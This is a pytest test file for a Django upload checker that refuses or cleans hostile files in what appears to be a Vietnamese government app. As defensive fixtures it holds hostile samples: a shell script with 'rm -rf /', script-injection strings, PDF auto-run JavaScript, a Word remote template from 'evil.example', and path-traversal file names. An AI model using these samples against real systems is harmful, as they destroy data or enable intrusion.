"""Files as attackers, old phones and tired officers send them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from danbiet.media.actions import REASONS, FileRefused, store_file
from danbiet.media.calc.inspect import Refused, clean_name, inspect
from danbiet.media.enums import PHOTOS, PROOFS, WORD, FileKind, Flaw
from danbiet.media.models import StoredFile
from danbiet.media.queries import open_file, stored_file
from danbiet.media.views import attachment

AT = datetime(2021, 3, 1, 2, tzinfo=UTC)
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def word() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Kế hoạch tuyên truyền")
    document.save(out)
    return out.getvalue()


def changed(
    content: bytes, *, add: dict[str, bytes] | None = None, replace: tuple[bytes, bytes] | None = None
) -> bytes:
    """The package with parts added, or with words replaced in every part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            body = old.read(part)
            new.writestr(part.filename, body.replace(*replace) if replace else body)
        for name, body in (add or {}).items():
            new.writestr(name, body)
    return out.getvalue()


def photo(size: tuple[int, int] = (40, 20), kind: str = "JPEG", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **options)
    return out.getvalue()


def photo_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by 90°
    exif[0x010F] = "Phone of Mr A"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (9.0, 36.0, 10.0)
    return photo(exif=exif)


def huge_png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def flaw(content: bytes, name: str = "minh chứng.pdf") -> Flaw:
    with pytest.raises(Refused) as refused:
        inspect(content, name=name, allowed=PROOFS)
    return refused.value.flaw


def test_honest_files_pass_as_what_they_are() -> None:
    assert inspect(PDF, name="a.pdf", allowed=PROOFS).kind == FileKind.PDF
    assert inspect(word(), name="kế hoạch.docx", allowed=WORD).kind == FileKind.DOCX
    for kind in ("JPEG", "PNG", "WEBP"):
        assert inspect(photo(kind=kind), name="a.jpg", allowed=PHOTOS).kind == kind.lower()


def test_nothing_and_too_much_are_refused() -> None:
    assert flaw(b"") == Flaw.EMPTY
    assert flaw(PDF + b"\n" * (25 * 1024 * 1024)) == Flaw.TOO_BIG


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"<!DOCTYPE html><script>alert(1)</script>", Flaw.HTML),
        (b"  <html><body>x</body></html>", Flaw.HTML),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', Flaw.SVG),
        (b"<svg onload=alert(1)>", Flaw.SVG),
        (b"MZ\x90\0" + b"\0" * 100, Flaw.PROGRAM),
        (b"\x7fELF" + b"\0" * 100, Flaw.PROGRAM),
        (b"#!/bin/sh\nrm -rf /\n", Flaw.PROGRAM),
        (b"Rar!\x1a\x07\0" + b"\0" * 50, Flaw.ARCHIVE),
        (b"\0\0\0\x18ftypheic" + b"\0" * 50, Flaw.HEIC),
        (b"\0\0\0\x18ftypmp42" + b"\0" * 50, Flaw.MOVING),
        (b"GIF89a" + b"\0" * 50, Flaw.MOVING),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Flaw.OLD_OFFICE),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), Flaw.PASSWORD),
        ("chỉ là chữ".encode(), Flaw.UNKNOWN),
        (b"<html><script>1</script>" + PDF, Flaw.HTML),
        (b"\n\n" + PDF, Flaw.TWO_IN_ONE),
        (PDF.replace(b"1 0 obj", b"<script>alert(1)</script> 1 0 obj"), Flaw.TWO_IN_ONE),
        (PDF + b"<html><script>alert(1)</script>", Flaw.TWO_IN_ONE),
        (PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), Flaw.ACTIVE),
        (PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Java#53cript>>"), Flaw.ACTIVE),
        (PDF[:-6], Flaw.DAMAGED),
        (photo()[:200], Flaw.DAMAGED),
        (huge_png(), Flaw.BOMB),
    ],
)  # fmt: skip
def test_hostile_content_is_refused_whatever_its_name(content: bytes, expected: Flaw) -> None:
    assert flaw(content, "ảnh.jpg") == expected


def test_word_with_macros_is_refused_even_when_named_docx() -> None:
    assert flaw(changed(word(), add={"word/vbaProject.bin": b"\xd0\xcf"})) == Flaw.MACROS
    macro_type = (b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    assert flaw(changed(word(), replace=macro_type)) == Flaw.MACROS


def test_word_that_pulls_a_template_from_elsewhere_is_refused() -> None:
    link = (
        b'<Relationships><Relationship Id="r" TargetMode="External" Target="http://evil.example/t.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )

    assert flaw(changed(word(), add={"word/_rels/settings.xml.rels": link})) == Flaw.OUTSIDE


def test_word_with_plain_web_links_passes() -> None:
    link = (
        b'<Relationships><Relationship Id="r" TargetMode="External" Target="https://soctrang.gov.vn" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
    )

    assert inspect(changed(word(), add={"word/_rels/x.xml.rels": link}), name="a.docx", allowed=WORD)


def test_bombs_are_refused_before_they_go_off() -> None:
    assert flaw(changed(word(), add={"word/media/a.xml": b"0" * 5_000_000})) == Flaw.BOMB
    assert (
        flaw(changed(word(), add={"word/x.xml": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "b">]><a/>'}))
        == Flaw.BOMB
    )


def test_archives_that_are_no_office_files_are_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("a.txt", "x")

    assert flaw(out.getvalue()) == Flaw.ARCHIVE
    assert flaw(changed(word(), add={"../../etc/x": b"1"})) == Flaw.DAMAGED
    assert flaw(word()[: len(word()) // 2]) == Flaw.DAMAGED


def test_word_with_something_behind_it_is_refused() -> None:
    assert flaw(word() + b"<html><script>1</script></html>") == Flaw.TWO_IN_ONE


def test_kind_not_asked_for_is_refused() -> None:
    with pytest.raises(Refused) as refused:
        inspect(PDF, name="a.pdf", allowed=WORD)

    assert (refused.value.flaw, refused.value.kind) == (Flaw.NOT_WANTED, FileKind.PDF)


def test_photo_loses_its_place_and_owner_and_stands_upright() -> None:
    sent = photo_with_place()
    kept = inspect(sent, name="a.jpg", allowed=PHOTOS)

    assert b"Phone of Mr A" in sent
    assert b"Phone of Mr A" not in kept.content
    with Image.open(io.BytesIO(kept.content)) as picture:
        assert not picture.getexif()
        assert picture.size == (20, 40)


def test_photo_with_a_page_hidden_behind_it_is_kept_without_it() -> None:
    kept = inspect(photo() + b"<html><script>alert(1)</script>", name="a.jpg", allowed=PHOTOS)

    assert b"script" not in kept.content


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\a\\báo cáo.pdf", "báo cáo.pdf"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ("hóa đơn\u202efdp.exe", "hóa đơnfdp.exe"),
        (".htaccess", "htaccess"),
        ("", "tep"),
        ("...", "tep"),
        ("a" * 400 + ".pdf", "a" * 196 + ".pdf"),
        ('x"<y>.pdf', "x__y_.pdf"),
    ],
)
def test_names_become_harmless(given: str, expected: str) -> None:
    assert clean_name(given) == expected


def test_name_gets_the_ending_of_its_content() -> None:
    assert inspect(PDF, name="bao-cao.exe", allowed=PROOFS).name == "bao-cao.exe.pdf"
    assert inspect(PDF, name="A.PDF", allowed=PROOFS).name == "A.PDF"


def test_every_flaw_has_words() -> None:
    assert set(REASONS) == set(Flaw)


@pytest.mark.django_db
def test_same_content_is_kept_once_and_comes_back(tmp_path: object, settings: object) -> None:
    settings.MEDIA_ROOT = tmp_path  # type: ignore[attr-defined]
    first, second = (
        store_file(SimpleUploadedFile(name, PDF), by=None, at=AT, allowed=PROOFS)
        for name in ("a.pdf", "b.pdf")
    )

    assert first.content.name == second.content.name
    assert (first.size, first.content_type) == (len(PDF), "application/pdf")
    with open_file(second.pk) as kept:
        assert kept.read() == PDF
    assert stored_file(0) is None


@pytest.mark.django_db
def test_file_cut_short_on_disk_is_written_again(tmp_path: object, settings: object) -> None:
    settings.MEDIA_ROOT = tmp_path  # type: ignore[attr-defined]
    first = store_file(SimpleUploadedFile("a.pdf", PDF), by=None, at=AT)
    with open(first.content.path, "wb") as half:
        half.write(PDF[:10])

    second = store_file(SimpleUploadedFile("a.pdf", PDF), by=None, at=AT)

    with open_file(second.pk) as kept:
        assert kept.read() == PDF


@pytest.mark.django_db
def test_refused_file_leaves_nothing_and_says_why() -> None:
    with pytest.raises(FileRefused, match=r"trang\.pdf: ") as refused:
        store_file(SimpleUploadedFile("x/trang.pdf", b"<html></html>"), by=None, at=AT)

    assert refused.value.flaw == Flaw.HTML
    assert not StoredFile.objects.exists()


@pytest.mark.django_db
def test_download_is_never_run_by_a_browser(tmp_path: object, settings: object) -> None:
    settings.MEDIA_ROOT = tmp_path  # type: ignore[attr-defined]
    response = attachment(store_file(SimpleUploadedFile("biên bản.pdf", PDF), by=None, at=AT))

    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''bi%C3%AAn")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == PDF  # type: ignore[arg-type]
    response.close()
